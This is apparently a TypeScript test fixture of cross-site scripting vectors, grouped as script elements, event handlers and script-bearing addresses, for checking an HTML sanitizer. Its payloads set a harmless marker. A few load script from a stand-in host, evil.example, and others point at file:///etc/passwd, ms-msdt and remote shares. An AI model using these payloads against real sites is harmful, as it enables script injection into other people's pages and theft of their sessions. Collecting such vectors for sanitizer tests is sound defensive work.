/** Those that want to run: in elements, attributes and addresses. */
import { vectorsOf } from './vector.ts';

const run = 'top.pwned=1';
const elements = vectorsOf('script element', 'run', {
  'a script': `<script>${run}</script>`,
  'a module': `<script type="module">${run}</script>`,
  'a script in mixed case with a slash': `<ScRiPt/x>${run}</sCrIpT>`,
  'a script in a script': `<scr<script>ipt>${run}</scr</script>ipt><script>${run}</script>`,
  'a script behind a comment that ends early': `<!--><script>${run}</script>-->`,
  'a script behind a comment that ends with a bang': `<!-- --!><script>${run}</script>-->`,
  'a script behind a comment that ends with a dash': `<!---><script>${run}</script>-->`,
  'a script in a table, moved out by the parser': `<table><script>${run}</script><tr><td>x</table>`,
  'a script in a title that is closed': `<title></title><script>${run}</script>`,
  'a script in a textarea that is closed': `<textarea></textarea><script>${run}</script>`,
  'a script in a frameset': `<frameset onload="${run}"></frameset>`,
  'a script in a template and beside it': `<template><script>${run}</script></template><script>${run}</script>`,
  'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/p"]}]}</script><script>${run}</script>`,
});

const sleepingElements = vectorsOf('script element', 'dormant', {
  'a script that is not closed': `<script>${run}//`,
  'a script with a null between': `<scr\u0000ipt>${run}</scr\u0000ipt><script\u0000>${run}</script>`,
});

const fetchedElements = vectorsOf('script element', 'ask', {
  'a script of another file': `<script src="https://evil.example/a.js"></script>`,
  'a script by an import map': `<script type="importmap">{"imports":{"a":"https://evil.example/m.js"}}</script><script type="module">import "a"</script>`,
});

const handlers = vectorsOf('event handler', 'run', {
  'an image that fails': `<img src=x onerror=${run}>`,
  'an image that fails, in capitals': `<IMG SRC=x ONERROR=${run}>`,
  'an image with a slash for a space': `<img/src="x"/onerror=${run}>`,
  'an image with a form feed for a space': `<img\fsrc=x\fonerror=${run}>`,
  'an image with quotes that touch': `<img src="x"onerror="${run}">`,
  'an image whose handler has entities': `<img src=x onerror="&#116;op.pwned=1">`,
  'an image whose handler has entities without ends': `<img src=x onerror="&#x74op.pwned=1">`,
  'an image named image': `<image src=x onerror=${run}>`,
  'a body that loads': `<body onload=${run}>`,
  'a body shown': `<body onpageshow=${run}>`,
  'a picture that fails': `<picture><source srcset=x><img onerror=${run}></picture>`,
  'an input that takes the focus': `<input autofocus onfocus=${run}>`,
  'a sound that fails': `<audio src=x onerror=${run}>`,
  'a film whose source fails': `<video><source onerror=${run} src=x></video>`,
  'details that open': `<details open ontoggle=${run}>x</details>`,
  'a style that loads': `<style onload=${run}></style>`,
  'a style with a sheet that fails': `<link rel=stylesheet href=x onerror=${run}>`,
  'an animation that starts': `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>x</b>`,
  'an animation that ends': `<style>@keyframes x{to{left:1px}}</style><i style="animation:x .01s" onanimationend=${run}>x</i>`,
  'an object that fails': `<object data=x onerror=${run}></object>`,
  'a frame that loads': `<iframe onload=${run}></iframe>`,
  'a drawing that loads': `<svg onload=${run}>`,
  'a drawing that loads, nested': `<svg><svg onload=${run}></svg></svg>`,
  'content that becomes seen': `<div style="content-visibility:auto" oncontentvisibilityautostatechange=${run}>x</div>`,
  'a track that fails': `<video><track default src=x onerror=${run}></video><img src=x onerror=${run}>`,
});

const sleepingHandlers = vectorsOf('event handler', 'dormant', {
  'a link that takes the focus': `<a href=# autofocus onfocus=${run}>x</a>`,
  'any element that takes the focus': `<b tabindex=1 autofocus onfocus=${run}>x</b>`,
  'a select that takes the focus': `<select autofocus onfocus=${run}></select>`,
  'a popup that opens': `<dialog open onfocusin=${run}><input autofocus></dialog>`,
  'a marquee': `<marquee onstart=${run}>x</marquee>`,
  'a pointer that comes over': `<p onmouseover=${run} onpointerenter=${run}>x</p>`,
  'a click': `<p onclick=${run}>x</p>`,
  'a key of access': `<a accesskey=x onclick=${run}>x</a>`,
  'a copy': `<div contenteditable oncopy=${run} onbeforeinput=${run}>x</div>`,
  'a popover': `<button popovertarget=x>y</button><p popover id=x onbeforetoggle=${run}>x</p>`,
  'a handler after a grave accent': `<img alt=\`<img src=x onerror=${run}>\``,
  'a handler with a colon': `<p on:click=${run} @click=${run} x-on:click=${run}>x</p>`,
  'bindings of frameworks': `<p ng-init="${run}" v-on:load="${run}" data-bind="click:${run}">{{constructor.constructor('${run}')()}}</p>`,
});

const addresses = vectorsOf('script address', 'run', {
  'a frame': `<iframe src="javascript:${run}"></iframe>`,
  'a frame of a document': `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'a frame of a document with entities': `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  'a frame with a tab': `<iframe src="java\tscript:${run}"></iframe>`,
  'a frame with an entity for a newline': `<iframe src="java&NewLine;script:${run}"></iframe>`,
  'a frame with an entity for a tab': `<iframe src="jav&Tab;ascript&colon;${run}"></iframe>`,
  'a frame with controls before': `<iframe src="\u0001\u0002 javascript:${run}"></iframe>`,
  'a frame in mixed case with entities': `<iframe src="&#74;aVaScRiPt&#58;${run}"></iframe>`,
  'a form sent by itself': `<form action="javascript:${run}"><input id=s type=submit></form><script>document.getElementById('s').click()</script>`,
  'a refresh to a script': `<meta http-equiv=refresh content="0;url=javascript:${run}"><script>${run}</script>`,
});

const sleepingAddresses = vectorsOf('script address', 'dormant', {
  'an object': `<object data="javascript:${run}"></object>`,
  'an embed': `<embed src="javascript:${run}">`,
  'a link': `<a href="javascript:${run}">x</a>`,
  'a link with a newline': `<a href="java\nscript:${run}">x</a>`,
  'a link with a carriage return by number': `<a href="java&#13;script:${run}">x</a>`,
  'a link with leading controls': `<a href="\u0000\u0008\u000e javascript:${run}">x</a>`,
  'a link with a soft hyphen and a wide colon': `<a href="java\u00adscript\uff1a${run}">x</a>`,
  'a link with a long entity': `<a href="&#0000106avascript&colon;${run}">x</a>`,
  'a link to data': `<a href="data:text/html,<script>${run}</script>">x</a>`,
  'a link to data in base64': `<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==">x</a>`,
  'a link to data with a charset': `<a href="data:text/html;charset=utf-7,+ADw-script+AD4-${run}+ADw-/script+AD4-">x</a>`,
  'a link to Visual Basic': `<a href="vbscript:msgbox(1)">x</a>`,
  'a link to Mocha': `<a href="livescript:${run}">a</a><a href="mocha:${run}">b</a>`,
  'a link to a blob': `<a href="blob:https://evil.example/00000000-0000-0000-0000-000000000000">x</a>`,
  'a link to a file': `<a href="file:///etc/passwd">x</a>`,
  'a link to a file system': `<a href="filesystem:https://evil.example/temporary/x.html">x</a>`,
  'a link to the source of a page': `<a href="view-source:https://evil.example/">x</a>`,
  'a link to a program': `<a href="ms-msdt:/id PCWDiagnostic">a</a><a href="search-ms:query=x&crumb=location:\\\\evil.example\\x">b</a>`,
  'a link to a share': `<a href="\\\\evil.example\\share">x</a><img src="\\\\evil.example\\share\\x.png">`,
  'a link to our own application': `<a href="/api/session">a</a><a href="?x">b</a><a href="#x">c</a><a href="">d</a>`,
  'an area of a map': `<map name=m><area shape=default href="javascript:${run}"></map><img usemap=#m src=x>`,
  'an address by XLink': `<a xlink:href="javascript:${run}" xml:base="javascript:${run}//">x</a>`,
  'an address by a button': `<form><button formaction="javascript:${run}">x</button></form>`,
  'an address by an image button': `<form><input type=image formaction="javascript:${run}"></form>`,
  'an address in old attributes': `<img dynsrc="javascript:${run}" lowsrc="javascript:${run}"><table background="javascript:${run}"><bgsound src="javascript:${run}">`,
});

export const scriptVectors = [
  ...elements,
  ...sleepingElements,
  ...fetchedElements,
  ...handlers,
  ...sleepingHandlers,
  ...addresses,
  ...sleepingAddresses,
];
